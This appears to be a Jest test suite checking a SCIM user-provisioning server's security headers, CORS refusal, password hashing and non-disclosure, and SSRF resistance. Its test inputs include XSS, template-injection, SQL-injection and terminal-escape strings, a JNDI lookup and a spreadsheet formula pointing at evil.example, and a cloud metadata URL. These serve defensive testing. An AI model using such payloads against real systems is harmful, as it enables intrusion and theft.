import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Server } from 'node:http';
import type { Resource } from '../support/client.js';
import { startServer, type TestServer } from '../support/server.js';

let server: TestServer;
let user: Resource;

beforeAll(async () => {
  server = await startServer();
  user = (await server.scim.post('/Users', { userName: 'secure@example.com', password: 'Correct-Horse-1' })).body;
});

afterAll(() => server.close());

/** One answer of each kind. */
const answers: [what: string, send: () => Promise<{ status: number; headers: Headers }>][] = [
  ['a resource', () => server.scim.get(`/Users/${user.id}`)],
  ['a list', () => server.scim.list('/Users')],
  ['a discovery resource', () => server.scim.get('/ServiceProviderConfig', { token: null })],
  ['an answer without a body', () => server.scim.send('OPTIONS', '/Users', undefined)],
  ['401', () => server.scim.get('/Users', { token: null })],
  ['404', () => server.scim.get('/Nothing')],
  ['405', () => server.scim.delete('/Users')],
  ['400', () => server.scim.send('POST', '/Users', '{')],
];

const header = (headers: Headers, ...names: string[]): Record<string, string | null> =>
  Object.fromEntries(names.map((name) => [name, headers.get(name)]));

describe('every answer of the protocol', () => {
  it.each(answers)('is kept out of caches, frames and sniffing browsers: %s', async (_what, send) => {
    const { headers } = await send();
    const seen = header(headers, 'Cache-Control', 'X-Content-Type-Options', 'X-Frame-Options', 'Referrer-Policy');
    expect(seen).toEqual({
      'Cache-Control': 'no-store',
      'X-Content-Type-Options': 'nosniff',
      'X-Frame-Options': 'DENY',
      'Referrer-Policy': 'no-referrer',
    });
    expect(headers.get('Content-Security-Policy')).toBe("default-src 'none'; frame-ancestors 'none'");
    expect(header(headers, 'X-Powered-By', 'Server', 'Set-Cookie', 'Access-Control-Allow-Origin')).toEqual({
      'X-Powered-By': null,
      Server: null,
      'Set-Cookie': null,
      'Access-Control-Allow-Origin': null,
    });
  });

  it.each(['https://evil.example', 'null', 'http://localhost:3000'])('is for no origin: %s', async (origin) => {
    for (const [what, send] of [
      ['GET', () => server.scim.get('/Users', { headers: { Origin: origin } })],
      ['POST', () => server.scim.send('POST', '/Users', '{', { headers: { Origin: origin } })],
      ['OPTIONS', () => server.scim.send('OPTIONS', '/Users', undefined, { headers: { Origin: origin } })],
    ] as const) {
      const names = [...(await send()).headers.keys()];
      expect([what, names.filter((name) => name.startsWith('access-control'))]).toEqual([what, []]);
    }
  });
});

describe('what a client stores', () => {
  it.each([
    ['markup', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
    ['quotes', '"\\"</textarea>\''],
    ['a template', '{{constructor.constructor("x")()}} ${7*7} <%= 7*7 %>'],
    ['a lookup', '${jndi:ldap://evil.example/a}'],
    ['terminal codes', '\u001b[2J\u001b]0;owned\u0007'],
    ['a formula', '=HYPERLINK("http://evil.example")'],
    ['SQL', "'; DROP TABLE users; --"],
  ])('comes back as it was, as JSON: %s', async (_what, displayName) => {
    const created = await server.scim.post('/Groups', { displayName });
    const read = await server.scim.get(`/Groups/${created.body.id}`);
    expect([created.status, read.body['displayName']]).toEqual([201, displayName]);
    expect(read.headers.get('Content-Type')).toBe('application/scim+json; charset=utf-8');
  });

  it('is never fetched, whatever URL it is', async () => {
    const { origin } = server;
    const created = await server.scim.post('/Users', {
      userName: 'urls@example.com',
      profileUrl: `${origin}/livez?profile`,
      photos: [{ value: `${origin}/livez?photo` }, { value: 'http://169.254.169.254/latest/meta-data' }],
    });
    expect(created.status).toBe(201);
    await server.scim.get(`/Users/${created.body.id}`);
    expect(server.logged().filter((line) => line['path'] === '/livez')).toEqual([]);
  });
});

describe('a password (RFC 7644 section 7.5)', () => {
  const secret = 'Tr0ub4dor-and-3';

  it('is in no answer, whichever way it is set or asked for', async () => {
    const texts: string[] = [];
    const created = await server.scim.post('/Users?attributes=password,userName', { userName: 'pw', password: secret });
    texts.push(created.text);
    const path = `/Users/${created.body.id}`;
    texts.push((await server.scim.put(path, { userName: 'pw', password: `${secret}x` })).text);
    texts.push((await server.scim.operations(path, [{ op: 'replace', path: 'password', value: `${secret}y` }])).text);
    texts.push((await server.scim.get(`${path}?attributes=password`)).text);
    texts.push((await server.scim.list('/Users?attributes=password')).text);
    texts.push((await server.scim.post('/Users', { userName: 'pw', password: `${secret}z` })).text);
    expect(
      texts.filter((text) => text.includes(secret) || text.includes('scrypt') || text.includes('"password"')),
    ).toEqual([]);
  });

  it.each([
    ['a number', 7_313_371],
    ['too long', 'Tr0ub4dor-and-3'.repeat(100)],
    ['an object', { value: 'Tr0ub4dor-and-3' }],
    ['a character that is not allowed', 'Tr0ub4dor-and-3\u0007'],
  ])('is not repeated when it is refused: %s', async (_what, password) => {
    const answer = await server.scim.post('/Users', { userName: 'pw2', password });
    expect(answer.status).toBe(400);
    expect(answer.text).not.toMatch(/Tr0ub4dor|7313371/);
    const id = user.id;
    const patched = await server.scim.operations(`/Users/${id}`, [
      { op: 'replace', path: 'password', value: password },
    ]);
    expect(patched.status).toBe(400);
    expect(patched.text).not.toMatch(/Tr0ub4dor|7313371/);
  });

  it('is stored as a salted scrypt hash only', async () => {
    await server.scim.post('/Users', { userName: 'twin', password: 'Correct-Horse-1' });
    const rows = await server.dataSource.query<{ password_hash: string }[]>(
      "SELECT password_hash FROM users WHERE user_name IN ('secure@example.com', 'twin')",
    );
    const [one, two] = rows.map((row) => row.password_hash);
    expect([one, two]).toEqual(Array(2).fill(expect.stringMatching(/^\$scrypt\$32768\$8\$3\$[\w-]{22}\$[\w-]{43}$/)));
    expect(one).not.toBe(two);
    const everything = JSON.stringify(await server.dataSource.query('SELECT * FROM users'));
    expect(everything).not.toContain('Correct-Horse-1');
  });
});

describe('a client that sends slowly', () => {
  it('has 15 seconds for its headers and 60 for the whole request, and is answered 408 then', () => {
    const { headersTimeout, requestTimeout }: Server = server.app.getHttpServer();
    expect([headersTimeout, requestTimeout]).toEqual([15_000, 60_000]);
  });
});

describe('transport security (RFC 7644 section 7.2)', () => {
  it('is asked of browsers where the public URL has it', async () => {
    const { headers } = await server.scim.get('/Users');
    expect(headers.get('Strict-Transport-Security')).toMatch(/^max-age=\d{7,}/);
  });

  // Last, for passport knows one strategy a process: that of the server that was made last.
  it('is not asked for where it has not', async () => {
    const plain = await startServer({ PUBLIC_URL: 'http://localhost:3000' });
    const { headers } = await plain.scim.get('/Users');
    expect(headers.get('Strict-Transport-Security')).toBeNull();
    expect(headers.get('Content-Security-Policy')).not.toContain('upgrade-insecure-requests');
    await plain.close();
  });
});
